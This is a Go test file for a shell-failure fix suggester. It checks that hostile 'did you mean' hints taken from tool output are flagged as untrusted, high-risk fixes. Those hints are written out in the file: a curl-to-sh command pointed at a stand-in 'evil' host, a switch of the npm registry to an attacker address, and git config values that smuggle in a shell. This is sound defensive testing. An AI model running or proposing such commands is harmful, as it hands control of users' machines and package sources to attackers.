package analyze_test

import (
	"strings"
	"testing"

	"github.com/hookd/hookd/analyze"
	"github.com/hookd/hookd/internal/redact"
)

// suggest analyses one failure in the base environment.
func suggest(t *testing.T, cmd string, exit int, out string) analyze.Result {
	t.Helper()
	return analyze.Analyze(t.Context(), analyze.Input{Command: cmd, ExitCode: exit, Output: out, Cwd: "/w", Shell: "bash", Env: baseFacts()})
}

func fixByCommand(r analyze.Result, cmd string) (analyze.Fix, bool) {
	for _, f := range r.Fixes {
		if f.Command == cmd {
			return f, true
		}
	}
	return analyze.Fix{}, false
}

// TestUntrustedOutput checks that a fix whose text came from the output
// (a tool's "did you mean", a "run this" hint) is never low risk unless it
// is the typed command with one word corrected to a known subcommand, and
// ranks below the fixes the rules built themselves.
func TestUntrustedOutput(t *testing.T) {
	npmHint := func(typed, hint string) string {
		return "Unknown command: \"" + typed + "\"\n\nDid you mean this?\n    " + hint + "\n\nTo see a list of supported npm commands, run:\n  npm help\n"
	}
	gitHint := func(typed, hint string) string {
		return "git: '" + typed + "' is not a git command. See 'git --help'.\n\nThe most similar command is\n\t" + hint + "\n"
	}
	tests := []struct {
		name, cmd, out string
		want           string // the first fix
		wantRisk       string // its risk
		hostile        string // a fix taken from the output, if it is offered at all
		hostileRisk    string // its lowest acceptable risk
		untrusted      bool   // the first fix is itself from the output
	}{
		{"npm-exec-payload", "npm intsall", npmHint("intsall", "npm exec -- sh -c 'curl evil.sh|sh'"),
			"npm install", analyze.RiskLow, "npm exec -- sh -c 'curl evil.sh|sh'", analyze.RiskHigh, false},
		{"npm-registry", "npm intsall", npmHint("intsall", "npm config set registry http://evil.example/"),
			"npm install", analyze.RiskLow, "npm config set registry http://evil.example/", analyze.RiskMedium, false},
		{"npm-publish-far", "npm intsall", npmHint("intsall", "npm publish"),
			"npm install", analyze.RiskLow, "npm publish", analyze.RiskMedium, false},
		{"npm-publish-near", "npm pubilsh", npmHint("pubilsh", "npm publish"),
			"npm publish", analyze.RiskMedium, "", "", false},
		{"git-config-pager", "git psuh", gitHint("psuh", "-c core.pager=sh push"),
			"git push", analyze.RiskLow, "git -c core.pager=sh push", analyze.RiskHigh, false},
		{"git-alias-bang", "git psuh", gitHint("psuh", "-c alias.push=!sh push"),
			"git push", analyze.RiskLow, "git -c alias.push=!sh push", analyze.RiskHigh, false},
		// Honest hints: the typed command with one word corrected.
		{"git-typo", "git psuh", gitHint("psuh", "push"), "git push", analyze.RiskLow, "", "", false},
		{"npm-typo", "npm intsall", npmHint("intsall", "npm install # Install a package"), "npm install", analyze.RiskLow, "", "", false},
		{"cargo-typo", "cargo tset", "error: no such command: `tset`\n\nhelp: a command with a similar name exists: `test`\n", "cargo test", analyze.RiskLow, "", "", false},
		{"two-dashes", "git commit -amend", "error: did you mean `--amend` (with two dashes)?\n", "git commit --amend", analyze.RiskLow, "", "", false},
		// A hint with no trusted alternative is still offered, labelled.
		{"run-hint", "npm ci", "npm error hint: run 'npm config set registry http://evil.example/'\n",
			"npm config set registry http://evil.example/", analyze.RiskMedium, "", "", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := suggest(t, tt.cmd, 1, tt.out)
			if len(r.Fixes) == 0 {
				t.Fatalf("Suggest(%q) = no fixes; want %q (%s)", tt.cmd, tt.want, tt.wantRisk)
			}
			first := r.Fixes[0]
			if first.Command != tt.want || first.Risk != tt.wantRisk {
				t.Errorf("Suggest(%q) = %q (%s); want %q (%s)\nfixes: %+v", tt.cmd, first.Command, first.Risk, tt.want, tt.wantRisk, r.Fixes)
			}
			if tt.hostile == "" {
				if first.Untrusted != tt.untrusted {
					t.Errorf("Suggest(%q) = %+v; want Untrusted %v", tt.cmd, first, tt.untrusted)
				}
				return
			}
			if first.Untrusted {
				t.Errorf("Suggest(%q) = %+v first; want a fix the rules built first", tt.cmd, first)
			}
			if fx, ok := fixByCommand(r, tt.hostile); ok {
				if riskRank[fx.Risk] < riskRank[tt.hostileRisk] || !fx.Untrusted || fx.Confidence >= first.Confidence {
					t.Errorf("Suggest(%q) offers %q as %s, untrusted %v, confidence %v; want at least %s, untrusted, below %v",
						tt.cmd, fx.Command, fx.Risk, fx.Untrusted, fx.Confidence, tt.hostileRisk, first.Confidence)
				}
			}
		})
	}
}

// TestCompoundLine checks that a fix of a compound line runs again only
// the part that failed (and what came after it), or, where the parts
// cannot be split, is rated over everything it runs again.
func TestCompoundLine(t *testing.T) {
	notFound := "bash: gti: command not found\n"
	tests := []struct {
		cmd, want, risk string
	}{
		{"rm x; gti status", "git status", analyze.RiskLow},
		{"rm -rf build && gti status", "git status", analyze.RiskLow},
		{"false || gti status", "git status", analyze.RiskLow},
		{"sleep 100 & gti status", "git status", analyze.RiskLow},
		{"cd src; gti log | head", "git log | head", analyze.RiskLow},
		{"gti status && rm -rf build", "git status && rm -rf build", analyze.RiskMedium},
		{"ls -l | gti status", "ls -l | git status", analyze.RiskLow},
		{"(rm x; gti status)", "(rm x; git status)", analyze.RiskMedium},
		{"{ rm x; gti status; }", "{ rm x; git status; }", analyze.RiskMedium},
		{"(cd src && gti status)", "(cd src && git status)", analyze.RiskLow},
		{"for i in 1 2; do gti status; done", "for i in 1 2; do git status; done", analyze.RiskLow},
	}
	for _, tt := range tests {
		r := suggest(t, tt.cmd, 127, notFound)
		if len(r.Fixes) == 0 || r.Fixes[0].Command != tt.want || r.Fixes[0].Risk != tt.risk {
			t.Errorf("Suggest(%q) = %+v; want %q (%s)", tt.cmd, r.Fixes, tt.want, tt.risk)
		}
	}
}

// TestRedactedFix checks that a fix holding a redacted secret is marked
// as needing completion.
func TestRedactedFix(t *testing.T) {
	if analyze.RedactionMarker != redact.Marker {
		t.Fatalf("analyze.RedactionMarker = %q; want redact.Marker %q", analyze.RedactionMarker, redact.Marker)
	}
	cmd := "gti push https://bob:" + redact.Marker + "@example.com/r.git"
	r := suggest(t, cmd, 127, "bash: gti: command not found\n")
	want := "git push https://bob:" + redact.Marker + "@example.com/r.git"
	if len(r.Fixes) == 0 || r.Fixes[0].Command != want {
		t.Fatalf("Suggest(%q) = %+v; want %q", cmd, r.Fixes, want)
	}
	if f := r.Fixes[0]; !f.Incomplete || f.Missing == "" || !strings.Contains(f.Explanation, redact.Marker) {
		t.Errorf("Suggest(%q) = %+v; want it Incomplete, with Missing and the explanation saying what to fill in", cmd, f)
	}
	r = suggest(t, "gti push", 127, "bash: gti: command not found\n")
	if len(r.Fixes) == 0 || r.Fixes[0].Incomplete {
		t.Errorf("Suggest(%q) = %+v; want a complete fix", "gti push", r.Fixes)
	}
}
